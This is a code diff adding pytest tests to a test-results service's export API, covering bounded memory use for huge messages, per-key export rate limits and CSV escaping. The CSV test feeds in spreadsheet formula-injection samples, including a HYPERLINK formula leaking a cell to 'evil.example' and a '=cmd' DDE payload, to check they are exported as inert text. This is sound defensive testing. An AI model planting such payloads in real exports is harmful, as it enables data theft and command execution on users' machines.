@@ -240,3 +240,94 @@ def test_variants_of_one_test_stay_apart_in_every_export(api):
     assert "Checkout [chromium]" in csv_text and "Checkout [firefox]" in csv_text
     junit = api.get(f"/api/v1/runs/{run['run_id']}/export?format=junit").text
     assert 'name="Checkout [firefox]"' in junit and 'name="Checkout [chromium]"' in junit
+
+
+def test_huge_messages_are_read_a_bounded_amount_at_a_time(api, monkeypatch):
+    """12 results with 1 MB messages and stacks: no export reads more than its text budget (and
+    one row) in one query, no Parquet row group holds more than its budget, and every byte
+    still arrives. Before the bound, one chunk read all 24 MB (5,000 such rows: 10 GB)."""
+    import pyarrow.parquet as pq
+
+    from qahub_lite.core import export_bulk, export_rows
+
+    budget, big = 2_500_000, 1_000_000
+    monkeypatch.setattr(export_rows, "CHUNK_TEXT_CHARS", budget, raising=False)
+    monkeypatch.setattr(export_bulk, "PARQUET_GROUP_TEXT_CHARS", budget, raising=False)
+    project = api.project("Huge")
+    results = [{"title": f"t{i}", "status": "FAILED", "error_message": chr(65 + i) * big,
+                "error_stack": "s" * big} for i in range(12)]
+    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": results}).json()
+    largest: list[int] = []
+    fetch = export_rows._fetch
+
+    async def measured(db, sql, params):
+        rows = await fetch(db, sql, params)
+        largest.append(sum(len(v) for row in rows for v in row if isinstance(v, str)))
+        return rows
+
+    monkeypatch.setattr(export_rows, "_fetch", measured)
+    for fmt in ("csv", "junit", "ctrf"):
+        largest.clear()
+        body = _get(api, f"/api/v1/runs/{run['run_id']}/export", format=fmt).text
+        assert all(chr(65 + i) * big in body for i in range(12)), fmt
+        assert max(largest) <= budget + 2 * big + 10_000, (fmt, max(largest))
+    r = _get(api, f"/api/v1/projects/{project['id']}/results/export", format="parquet")
+    parquet = pq.ParquetFile(io.BytesIO(r.content))
+    assert parquet.metadata.num_rows == 12
+    assert parquet.metadata.num_row_groups >= 12 * big // (budget + big)
+
+
+def test_csv_cells_cannot_be_spreadsheet_formulas(api):
+    """A title, suite, file, code, message, framework or run name a spreadsheet would run as a
+    formula is written as text (a leading apostrophe) in CSV, exactly as stored in NDJSON."""
+    project = api.project("Formulas")
+    evil = {"title": '=HYPERLINK("https://evil.example/?"&A2,"open")', "suite": "+1+1", "file": "@SUM(A1)",
+            "error_message": "-2+3", "framework": "\tx", "status": "FAILED"}
+    run = api.post("/api/v1/ingest", {"project_id": project["id"], "results": [evil, {"title": "a-b = c",
+                                      "status": "PASSED"}], "run_name": "=cmd|' /C calc'!A0"}).json()
+    rows = list(csv.DictReader(io.StringIO(_get(api, f"/api/v1/runs/{run['run_id']}/export", format="csv").text)))
+    bad = next(r for r in rows if r["status"] == "FAILED")
+    for column in ("title", "suite", "file", "error_message", "framework"):
+        assert bad[column] == "'" + evil[column], column
+    assert {r["run_name"] for r in rows} == {"'=cmd|' /C calc'!A0"}
+    assert next(r for r in rows if r["status"] == "PASSED")["title"] == "a-b = c"  # only the first character
+    lines = _get(api, f"/api/v1/runs/{run['run_id']}/export", format="ndjson").text.splitlines()
+    exact = next(json.loads(line) for line in lines if json.loads(line)["status"] == "FAILED")
+    assert exact["title"] == evil["title"] and exact["run_name"] == "=cmd|' /C calc'!A0"
+
+
+def test_one_key_streams_at_most_two_exports_at_once(api, seeded):
+    """30 concurrent exports with one read key held /readyz for 20 s on two cores. A key
+    streams two at once (the server, one per core); the next is a 429 with Retry-After at
+    once, another key still exports, and a slot comes back however its stream ended."""
+    import gc
+
+    from qahub_lite.api.export_slots import PER_KEY, export_slots
+
+    project, run = seeded
+    slots = export_slots(api.client.app.state.services.extras)
+    key_id = api.admin_key.split("_")[1]
+    path = f"/api/v1/runs/{run['run_id']}/export"
+    for _ in range(PER_KEY):  # two exports of this key streaming now
+        slots.take(key_id)
+    busy = api.get(path, params={"format": "csv"})
+    assert busy.status_code == 429 and busy.headers["retry-after"] == "10", busy.text
+    assert "2 exports streaming" in busy.json()["message"]
+    assert api.get(f"/api/v1/projects/{project['id']}/results/export").status_code == 429
+    with direct_connection(api.config.db_path) as conn:
+        other = tenancy.create_key(conn, api.tenant_id, scope="read").key
+    assert api.get(path, key=other).status_code == 200
+    for _ in range(PER_KEY):
+        slots.give_back(key_id)
+    for fmt in ("junit", "ctrf", "csv", "ndjson"):
+        assert api.get(path, params={"format": fmt}).status_code == 200
+    assert (slots.held, slots.by_key) == (0, {})  # every finished stream gave its slot back
+
+    async def never_read():
+        yield b"x"
+
+    slots.take(key_id)
+    dropped = slots.hold(key_id, never_read())  # a client gone before the response started
+    del dropped
+    gc.collect()
+    assert (slots.held, slots.by_key) == (0, {})
